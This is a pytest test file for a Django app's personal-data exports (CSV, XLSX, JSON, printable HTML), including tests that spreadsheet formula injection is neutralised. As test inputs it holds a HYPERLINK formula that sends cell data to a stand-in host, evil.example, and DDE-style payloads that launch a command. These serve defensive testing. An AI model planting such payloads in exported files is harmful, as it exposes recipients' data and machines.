import base64
import csv
import datetime
import hashlib
import io
import json
import re
import tempfile
import zipfile

import pytest
from django.conf import settings
from django.contrib.admin.models import LogEntry
from django.contrib.auth.models import Group
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone, translation

from inquiries.models import Inquiry, InquiryView
from privacy.exports import CSV_COLUMNS, PRINT_CSS, csv_safe, print_css_source
from testkit.inquiries import CANARY_MESSAGE, CANARY_NAME, CANARY_PHONE, make_inquiry, phone_forms
from testkit.privacy import OTHER_PHONE, act, make_request

pytestmark = pytest.mark.django_db

INJECTION = '=HYPERLINK("http://evil.example/?d="&A1,"Нажмите")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# Staff appear by role, never by username (in the Russian the canary wrote in).
OFFICER = "ответственный за персональные данные"


@pytest.fixture
def subject(privacy_officer):
    """An information request, the canary's inquiries (one processed, blocked, held), a view."""
    subject_request = make_request("information")
    first = make_inquiry(message=INJECTION, note="-2 called back, no answer")
    Inquiry.objects.filter(pk=first.pk).update(
        status="processed", processed_at=timezone.now(), processed_by=privacy_officer.user
    )
    second = make_inquiry(
        blocked_at=timezone.now(),
        blocked_by=privacy_officer.user,
        legal_hold_reason="@court 2-123/2026",
        legal_hold_at=timezone.now(),
    )
    other = make_inquiry(phone=OTHER_PHONE, name="Другой Человек")
    InquiryView.objects.create(inquiry=first, user=privacy_officer.user, username="operator-anna")
    return subject_request, first, second, other


# --- CSV cells ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+77015551234", "'+77015551234"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=cmd", "'\t'=cmd"),
        ("\r=cmd", "'\r'=cmd"),
        (INJECTION, "'" + INJECTION),
        # A spreadsheet that splits on another separator starts a cell inside the field.
        ("a;=cmd|' /C calc'!A0;b", "a;'=cmd|' /C calc'!A0;b"),
        ("a,+1", "a,'+1"),
        ("a\t-1", "a\t'-1"),
        ("a\n@SUM(A1)", "a\n'@SUM(A1)"),
        ("a; =1", "a;' =1"),
        ('a;"=1"', 'a;\'"=1"'),
        ("2-123/2026, page 4", "2-123/2026, page 4"),
        ("Канарейка Тестовая", "Канарейка Тестовая"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (1, "1"),
    ],
)
def test_csv_cells_that_a_spreadsheet_would_run_get_a_leading_quote(value, cell):
    assert csv_safe(value) == cell


# Visitor-typed text that a spreadsheet splitting on "," ";" or tab would run.
HOSTILE_TEXTS = [
    "a;=cmd|' /C calc'!A0;b",
    "a,=1+1,b",
    "a\t+1\tb",
    "line\n-1\r\n@SUM(A1)",
    "x; @SUM(A1:A2)",
    'q";"=1";"',
    "=2+2",
]


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_csv_cell_runs_a_formula_whatever_separator_the_spreadsheet_splits_on(
    privacy_officer, delimiter
):
    subject_request = make_request("information")
    for text in HOSTILE_TEXTS:
        make_inquiry(name=text, message=text, note=text, legal_hold_reason=text)
    content = act(privacy_officer, subject_request, "export_csv").content.decode("utf-8")
    rows = list(csv.reader(io.StringIO(content[1:], newline=""), delimiter=delimiter))
    assert len(rows) > len(HOSTILE_TEXTS)
    for row in rows:
        for cell in row:
            assert not cell.lstrip().startswith(("=", "+", "-", "@")), cell


def test_csv_fields_are_all_quoted_and_read_back_whole(privacy_officer):
    subject_request = make_request("information")
    make_inquiry(message="a;=cmd|' /C calc'!A0;b")
    content = act(privacy_officer, subject_request, "export_csv").content.decode("utf-8")
    header, row = csv.reader(io.StringIO(content[1:]))
    assert all(line.startswith('"') for line in content[1:].splitlines())
    assert dict(zip(header, row, strict=True))["message"] == "a;'=cmd|' /C calc'!A0;b"


# --- The spreadsheet ----------------------------------------------------------------------


def read_xlsx(response):
    openpyxl = pytest.importorskip("openpyxl")
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    return [list(row) for row in book.active.iter_rows()]


def test_xlsx_export_holds_everything_as_text_and_no_formula(privacy_officer, subject):
    subject_request, first, second, other = subject
    make_inquiry(message=HOSTILE_TEXTS[0], note="+7 is a prefix")
    response = act(privacy_officer, subject_request, "export_xlsx")
    assert response.status_code == 200
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert response["Content-Disposition"] == (
        f'attachment; filename="request-{subject_request.pk}-data.xlsx"'
    )
    header, *rows = read_xlsx(response)
    assert [cell.value for cell in header] == CSV_COLUMNS
    assert len(rows) == 3
    for row in [header, *rows]:
        for cell in row:
            assert cell.data_type in ("s", "n"), (cell.coordinate, cell.data_type)
            assert cell.value is None or isinstance(cell.value, str), cell.value
    records = {
        row[0].value: {h.value: c.value for h, c in zip(header, row, strict=True)} for row in rows
    }
    one, two = records[first.reference], records[second.reference]
    # Text cells are never run: the values are exactly what is held, with no quote added.
    assert one["name"] == CANARY_NAME
    assert one["phone"] == CANARY_PHONE
    assert one["message"] == INJECTION
    assert one["note"] == "-2 called back, no answer"
    assert two["legal_hold_reason"] == "@court 2-123/2026"
    assert HOSTILE_TEXTS[0] in {record["message"] for record in records.values()}
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        for name in sheets:
            assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    assert "Другой Человек" not in str(records)


def test_xlsx_export_never_writes_the_data_to_a_temporary_file(
    privacy_officer, subject, monkeypatch
):
    """The answer is built in memory: no copy of the person's data lands on the disk."""
    written = []

    def mkstemp(*args, **kwargs):
        written.append(args or kwargs)
        raise AssertionError("a temporary file was made")

    monkeypatch.setattr(tempfile, "mkstemp", mkstemp)
    subject_request, *_ = subject
    header, *rows = read_xlsx(act(privacy_officer, subject_request, "export_xlsx"))
    assert len(rows) == 2
    assert written == []


def test_the_print_stylesheet_hash_is_its_csp_source():
    digest = base64.b64encode(hashlib.sha256(PRINT_CSS.encode()).digest()).decode()
    assert print_css_source() == f"'sha256-{digest}'"


# --- the three exports through the admin --------------------------------------------------


def read_csv(response):
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def test_csv_export_holds_everything_and_runs_no_formula(privacy_officer, subject):
    subject_request, first, second, other = subject
    response = act(privacy_officer, subject_request, "export_csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        f'attachment; filename="request-{subject_request.pk}-data.csv"'
    )
    header, *rows = read_csv(response)
    assert header == CSV_COLUMNS
    assert len(rows) == 2
    records = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
    assert set(records) == {first.reference, second.reference}
    one, two = records[first.reference], records[second.reference]
    assert one["name"] == CANARY_NAME
    assert one["phone"] == "'" + CANARY_PHONE
    assert one["message"] == "'" + INJECTION
    assert one["note"] == "'-2 called back, no answer"
    assert one["status"] == "processed"
    assert one["processed_by"] == OFFICER
    assert one["consent_version"] == "1"
    assert one["consent_language"] == "ru"
    assert one["consent_sha256"] == first.consent_sha256
    assert one["consent_text_url"].endswith("/consent/1/ru.txt")
    assert re.fullmatch(OFFICER + r" \d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+05:00", one["opened_by"])
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+05:00", one["received_at"])
    assert two["message"] == CANARY_MESSAGE
    assert two["blocked_at"] and two["blocked_by"] == OFFICER
    assert two["legal_hold_reason"] == "'@court 2-123/2026"
    for row in rows:
        for cell in row:
            assert not cell.startswith(TRIGGERS), cell
    assert "Другой Человек" not in response.content.decode("utf-8")


def test_csv_export_lists_everyone_who_opened_an_inquiry_and_when(privacy_officer, subject):
    subject_request, first, *_ = subject
    later = timezone.make_aware(datetime.datetime(2026, 3, 2, 9, 30))
    InquiryView.objects.filter(inquiry=first).update(viewed_at=later - datetime.timedelta(days=1))
    InquiryView.objects.create(inquiry=first, user=None, username="operator-boris")
    InquiryView.objects.filter(username="operator-boris").update(viewed_at=later)
    header, *rows = read_csv(act(privacy_officer, subject_request, "export_csv"))
    opened_by = {row[0]: dict(zip(header, row, strict=True)) for row in rows}[first.reference][
        "opened_by"
    ]
    assert opened_by.startswith(
        f"{OFFICER} 2026-03-01T09:30:00+05:00; работник 2026-03-02T09:30:00+05:00"
    )


def test_json_export_is_utf8_with_everything_held(privacy_officer, subject):
    subject_request, first, second, other = subject
    response = act(privacy_officer, subject_request, "export_json")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/json"
    assert response["Content-Disposition"] == (
        f'attachment; filename="request-{subject_request.pk}-data.json"'
    )
    assert CANARY_NAME.encode("utf-8") in response.content  # not \u escapes
    data = json.loads(response.content.decode("utf-8"))
    assert data["phone"] == CANARY_PHONE
    assert data["request"]["id"] == subject_request.pk
    assert data["request"]["kind"] == "information"
    # Who holds the data and how to reach them (Art. 24), and as of when.
    assert data["controller"] == {
        "name": settings.OPERATOR["name"]["ru"],
        "bin": "210740014147",
        "address": settings.OPERATOR["address"]["ru"],
        "privacy_email": "a_kassenov@mail.ru",
    }
    exported = datetime.datetime.fromisoformat(data["exported_at"])
    assert abs(exported - timezone.now()) < datetime.timedelta(minutes=1)
    by_reference = {record["reference"]: record for record in data["inquiries"]}
    assert set(by_reference) == {first.reference, second.reference}
    one = by_reference[first.reference]
    assert (one["name"], one["phone"], one["message"]) == (CANARY_NAME, CANARY_PHONE, INJECTION)
    assert one["status"] == "processed" and one["processed_at"]
    assert one["note"] == "-2 called back, no answer"
    assert one["consent"]["version"] == 1
    assert one["consent"]["language"] == "ru"
    assert one["consent"]["sha256"] == first.consent_sha256
    assert one["consent"]["accepted_at"] == one["received_at"]
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+05:00", one["received_at"])
    assert data["request"]["due_on"] == subject_request.due_on.isoformat()
    assert [view["role"] for view in one["opened_by"]] == [OFFICER]
    assert one["blocked_at"] is None and one["legal_hold_reason"] == ""
    two = by_reference[second.reference]
    assert two["blocked_by"] == OFFICER
    assert two["legal_hold_reason"] == "@court 2-123/2026"
    assert two["legal_hold_at"]


def test_json_export_gives_each_date_and_name_as_held(privacy_officer):
    def moment(day):
        return timezone.make_aware(datetime.datetime(2026, 3, day, 10, 0))

    subject_request = make_request("information", received_at=moment(20))
    inquiry = make_inquiry(
        notified_at=moment(2), legal_hold_by=privacy_officer.user, legal_hold_at=moment(3)
    )
    Inquiry.objects.filter(pk=inquiry.pk).update(created_at=moment(1))
    data = json.loads(act(privacy_officer, subject_request, "export_json").content)
    assert data["request"]["received_at"] == "2026-03-20T10:00:00+05:00"
    (record,) = data["inquiries"]
    assert record["received_at"] == "2026-03-01T10:00:00+05:00"
    assert record["consent"]["accepted_at"] == "2026-03-01T10:00:00+05:00"
    assert record["notified_at"] == "2026-03-02T10:00:00+05:00"
    assert record["legal_hold_at"] == "2026-03-03T10:00:00+05:00"
    assert record["legal_hold_by"] == OFFICER


def test_json_export_puts_one_field_a_line_for_a_person_to_read(privacy_officer, subject):
    subject_request, *_ = subject
    text = act(privacy_officer, subject_request, "export_json").content.decode("utf-8")
    assert f'\n  "phone": "{CANARY_PHONE}",\n' in text
    assert f'\n      "name": "{CANARY_NAME}",\n' in text


def test_printable_page_holds_everything_and_needs_no_other_host(privacy_officer, subject):
    subject_request, first, second, other = subject
    response = act(privacy_officer, subject_request, "export_html")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/html")
    page = response.content.decode()
    for text in (first.reference, second.reference, CANARY_NAME, CANARY_MESSAGE, "+7 701 555"):
        assert text in page
    assert "=HYPERLINK(&quot;http://evil.example/" in page  # escaped, shown as text
    assert "@court 2-123/2026" in page and OFFICER in page
    assert "operator-anna" not in page and privacy_officer.user.username not in page
    assert first.consent_sha256 in page
    assert "Другой Человек" not in page
    assert "@media print" in page
    assert not re.search(r"<(script|link|img|iframe)\b", page)
    title = re.search(r"<title>(.*?)</title>", page, re.S).group(1)
    assert CANARY_NAME not in title
    assert not [form for form in phone_forms() if form in title], title
    style = re.search(r"<style>(.*?)</style>", page, re.S).group(1)
    assert style == PRINT_CSS
    policy = response["Content-Security-Policy"]
    style_src = re.search(r"style-src ([^;]*)", policy).group(1).split()
    assert print_css_source() in style_src
    assert "'unsafe-inline'" not in style_src


@pytest.mark.parametrize(
    ("action", "label"),
    [
        ("export_html", "HTML"),
        ("export_json", "JSON"),
        ("export_csv", "CSV"),
        ("export_xlsx", "XLSX"),
    ],
)
def test_an_export_is_recorded_as_opening_each_inquiry_and_in_the_admin_log(
    privacy_officer, subject, action, label
):
    subject_request, first, second, other = subject
    act(privacy_officer, subject_request, action)
    opened = InquiryView.objects.filter(username=privacy_officer.user.username)
    assert sorted(view.inquiry_id for view in opened) == sorted([first.pk, second.pk])
    subject_request.refresh_from_db()
    assert subject_request.handled_by == privacy_officer.user
    entry = LogEntry.objects.get()
    assert entry.object_id == str(subject_request.pk)
    with translation.override("ru"):
        expected = translation.ngettext(
            "Exported as %(format)s: %(count)d inquiry.",
            "Exported as %(format)s: %(count)d inquiries.",
            2,
        ) % {"format": label, "count": 2}
    assert entry.change_message == expected


def test_an_export_when_nothing_is_held_says_so(privacy_officer):
    subject_request = make_request("information")
    data = json.loads(act(privacy_officer, subject_request, "export_json").content)
    assert data["inquiries"] == []
    header, *rows = read_csv(act(privacy_officer, subject_request, "export_csv"))
    assert rows == []
    header, *rows = read_xlsx(act(privacy_officer, subject_request, "export_xlsx"))
    assert rows == []
    page = act(privacy_officer, subject_request, "export_html").content.decode()
    assert 'class="no-inquiries"' in page


def test_export_queries_do_not_grow_with_the_inquiries(privacy_officer):
    subject_request = make_request("information")
    # Each inquiry names the staff who processed, blocked and held it: no query per name.
    staff = privacy_officer.user
    by = {"processed_by": staff, "blocked_by": staff, "legal_hold_by": staff}
    make_inquiry(**by)
    with CaptureQueriesContext(connection) as one:
        act(privacy_officer, subject_request, "export_json")
    for _ in range(5):
        inquiry = make_inquiry(**by)
        InquiryView.objects.create(inquiry=inquiry, user=None, username="someone")
    with CaptureQueriesContext(connection) as six:
        response = act(privacy_officer, subject_request, "export_json")
    assert len(json.loads(response.content)["inquiries"]) == 6
    assert len(six) == len(one)


def test_every_export_needs_the_export_permission(privacy_officer, subject):
    from django.contrib.auth.models import Permission

    from privacy.carry_out import EXPORTS

    subject_request = subject[0]
    officer = privacy_officer.user
    officer.user_permissions.add(*Group.objects.get(name="Privacy officers").permissions.all())
    officer.groups.clear()
    officer.user_permissions.remove(Permission.objects.get(codename="export_inquiry"))
    assert {"export_html", "export_json", "export_csv", "export_xlsx"} <= EXPORTS
    for action in sorted(EXPORTS):
        assert act(privacy_officer, subject_request, action).status_code == 403, action
    assert not InquiryView.objects.filter(username=officer.username).exists()


# --- what Art. 24 of the Law asks an answer to say ----------------------------------------


def test_the_answer_states_purposes_basis_deletion_date_recipients_and_source(
    privacy_officer, subject
):
    subject_request, first, second, other = subject
    Inquiry.objects.filter(pk=first.pk).update(
        created_at=timezone.make_aware(datetime.datetime(2026, 3, 1, 10, 0))
    )
    data = json.loads(act(privacy_officer, subject_request, "export_json").content)
    assert data["language"] == "ru"
    assert data["purposes"][0] == "Обработка обращения, направленного через форму обратной связи."
    assert len(data["purposes"]) == 4
    assert data["recipients"][0].startswith("Работники Оператора: операторы")
    assert data["recipients"][-1] == "Иным третьим лицам данные не передаются."
    assert len(data["recipients"]) == 2  # no processor is configured in the tests
    by_reference = {record["reference"]: record for record in data["inquiries"]}
    one, two = by_reference[first.reference], by_reference[second.reference]
    assert one["legal_basis"] == (
        "Согласие на обработку персональных данных, версия 1, принятое на языке: Русский; "
        f"SHA-256 принятого текста: {first.consent_sha256}."
    )
    # Received 01.03.2026: the third anniversary; the held one is kept until the hold ends.
    assert one["deleted_by"] == "2029-03-01"
    assert two["deleted_by"] == (
        "Хранится по требованию закона, пока удержание не снято, затем удаляется."
    )
    assert one["source"] == "Форма обратной связи на сайте, заполненная самим человеком."

    header, *rows = read_csv(act(privacy_officer, subject_request, "export_csv"))
    row = {r[0]: dict(zip(header, r, strict=True)) for r in rows}[first.reference]
    assert row["deleted_by"] == "2029-03-01"
    assert row["legal_basis"] == one["legal_basis"]
    assert row["purposes"].startswith("Обработка обращения") and row["source"] == one["source"]
    assert row["recipients"].endswith("Иным третьим лицам данные не передаются.")

    page = act(privacy_officer, subject_request, "export_html").content.decode()
    for text in ("Цели обработки", "Кто получает данные", "правовое основание", "источник"):
        assert text in page
    assert "будет удалено не позднее</th><td>1 марта 2029 г.</td>" in page


def test_a_processed_inquiry_is_deleted_sooner_when_the_setting_says_so(privacy_officer, settings):
    settings.INQUIRY_PROCESSED_RETENTION_DAYS = 30
    subject_request = make_request("information")
    inquiry = make_inquiry()
    processed = timezone.make_aware(datetime.datetime(2026, 5, 10, 12, 0))
    Inquiry.objects.filter(pk=inquiry.pk).update(status="processed", processed_at=processed)
    data = json.loads(act(privacy_officer, subject_request, "export_json").content)
    assert data["inquiries"][0]["deleted_by"] == "2026-06-09"


def test_recipients_name_the_processors_the_settings_name(privacy_officer, settings):
    settings.POLICY_DETAILS = {**settings.POLICY_DETAILS, "hosting_provider": "ps.kz"}
    settings.INQUIRY_NOTIFY_EMAILS = ["operator@example.kz"]
    settings.EMAIL_BACKEND = "django.core.mail.backends.smtp.EmailBackend"
    settings.EMAIL_HOST = "smtp.example.kz"
    make_inquiry()
    data = json.loads(act(privacy_officer, make_request("information"), "export_json").content)
    assert data["recipients"][1:] == [
        "ps.kz, провайдер хостинга, обслуживает сервер по поручению Оператора.",
        "Почтовый сервис, отправляющий работникам уведомление о новом обращении "
        "(smtp.example.kz): только номер обращения и ссылка.",
        "Иным третьим лицам данные не передаются.",
    ]


def test_the_answer_is_in_the_language_the_person_wrote_in(privacy_officer):
    subject_request = make_request("information")
    make_inquiry(consent_language="kk")
    make_inquiry(consent_language="kk")
    data = json.loads(act(privacy_officer, subject_request, "export_json").content)
    assert data["language"] == "kk"
    assert data["purposes"][0] == "Кері байланыс нысаны арқылы жіберілген өтінішті өңдеу."
    assert data["controller"]["name"] == settings.OPERATOR["name"]["kk"]
    page = act(privacy_officer, subject_request, "export_html").content.decode()
    assert '<html lang="kk">' in page and "Өңдеу мақсаттары" in page
    # Inquiries in two languages: the answer falls back to Russian.
    make_inquiry(consent_language="en")
    data = json.loads(act(privacy_officer, subject_request, "export_json").content)
    assert data["language"] == "ru" and data["purposes"][0].startswith("Обработка обращения")


def test_the_note_is_in_the_answer_and_its_help_text_says_it_may_be_disclosed(
    privacy_officer, subject
):
    subject_request, first, *_ = subject
    page = privacy_officer.get(f"/admin/inquiries/inquiry/{first.pk}/change/").content.decode()
    assert "сообщается человеку, которого касается" in page
    assert "никогда не отправляется посетителю" not in page
    data = json.loads(act(privacy_officer, subject_request, "export_json").content)
    notes = [record["note"] for record in data["inquiries"]]
    assert "-2 called back, no answer" in notes
